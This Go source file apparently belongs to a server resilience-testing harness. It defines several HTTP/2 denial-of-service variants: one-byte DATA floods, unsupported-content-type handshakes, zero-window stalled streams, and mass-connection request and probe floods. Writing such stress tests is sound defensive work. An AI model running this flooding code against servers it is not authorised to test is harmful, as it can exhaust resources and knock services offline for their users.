//nolint:wrapcheck // errors of the framer end an attack, and nobody looks at them
package kinds

import (
	"bytes"
	"context"
	"net/http"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

const (
	nowhere    = "/nothing.v1.Here/Is"
	crowded    = 400 // connections, each of which stays below what one may do
	crowdedPer = 9   // requests on each, every tenth of a second
	asking     = 200 // connections, each of which asks whether the host lives as often as it can
	tenth      = 100 * time.Millisecond
	stalled    = 100 // connections whose windows are closed
	stalledPer = 250 // requests on each
	bytesOfOne = 90_000
	bytesAtAll = 100 // frames of a step
)

// nothings are attacks with what comes to nothing, a little of it on each of many connections, and with answers that wait.
func nothings() []Kind {
	closed := http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}
	return []Kind{
		{Who: Stranger, Name: "DATA of a byte", run: severally(flood(byBytes))},
		{Who: Stranger, Name: "handshakes in an encoding that nobody speaks", run: severally(flood(paced(unspoken)))},
		{Who: Stranger, Name: "refusals that no window lets out", run: crowd(stalled, (*conn).stall, closed)},
		{Who: Stranger, Name: "refusals on many connections", run: crowd(crowded, (*conn).drop)},
		{Who: Stranger, Name: "probes on many connections", run: crowd(asking, (*conn).askOn)},
	}
}

// byBytes sends bodies of a byte a frame, which could become handshakes.
func byBytes(c *conn, i uint32) error {
	if i%(bytesOfOne/bytesAtAll) == 0 {
		if _, err := c.open(c.typed(handshakePath, "application/json"), false); err != nil {
			return err
		}
	}
	for range bytesAtAll {
		if err := c.WriteData(c.next-2, false, []byte{' '}); err != nil {
			return err
		}
	}
	return nil
}

func unspoken(c *conn, _ uint32) error {
	_, err := c.open(c.typed(handshakePath, "text/plain"), true)
	return err
}

// typed is the head of a request with a content type, which means the same whatever was sent before.
func (c *conn) typed(path, kind string) []byte {
	c.block.Reset()
	for _, f := range [...][2]string{
		{fieldMethod, http.MethodPost}, {fieldScheme, "https"}, {fieldAuthority, c.attack.addr}, {fieldPath, path}, {fieldType, kind},
	} {
		_ = c.fields.WriteField(hpack.HeaderField{Name: f[0], Value: f[1], Sensitive: true})
	}
	return bytes.Clone(c.block.Bytes())
}

// crowd does something on each of many connections at the same time.
func crowd(conns int, do func(*conn) error, settings ...http2.Setting) func(context.Context, *attack) error {
	return func(ctx context.Context, a *attack) error {
		var working sync.WaitGroup
		turns := make(chan struct{}, 2*connecting)
		for range conns {
			working.Go(func() {
				turns <- struct{}{}
				c, err := a.connect(ctx, true, settings...)
				<-turns
				if err != nil { // it comes too fast
					a.refused.Add(1)
					return
				}
				defer c.close()
				_ = do(c)
			})
		}
		working.Wait()
		return nil
	}
}

// stall asks for so much, and waits.
func (c *conn) stall() error {
	for range stalledPer {
		if err := c.more(); err != nil {
			return err
		}
		if _, err := c.open(c.typed(nowhere, "application/proto"), true); err != nil {
			return err
		}
	}
	return c.linger()
}

// drop asks for what there is not, no more often than one connection may.
func (c *conn) drop() error {
	tick := time.NewTicker(tenth)
	defer tick.Stop()
	for {
		for range crowdedPer {
			if err := c.more(); err != nil {
				return err
			}
			if _, err := c.open(c.typed(nowhere, "application/proto"), true); err != nil {
				return err
			}
		}
		if err := c.flush(); err != nil {
			return err
		}
		select {
		case <-tick.C:
		case <-c.gone:
			return errGone
		case <-c.ctx.Done():
			return nil
		}
	}
}

// askOn asks whether the host lives, again and again, and waits for answers: no request of it is refused for want of room.
func (c *conn) askOn() error {
	for i := int64(0); ; i++ {
		if i > 0 && i%fewAtOnce == 0 {
			if err := c.awaitEnds(i); err != nil {
				return c.lost(err)
			}
		}
		if err := c.more(); err != nil {
			return err
		}
		if _, err := c.open(c.probe(), true); err != nil {
			return c.lost(err)
		}
	}
}
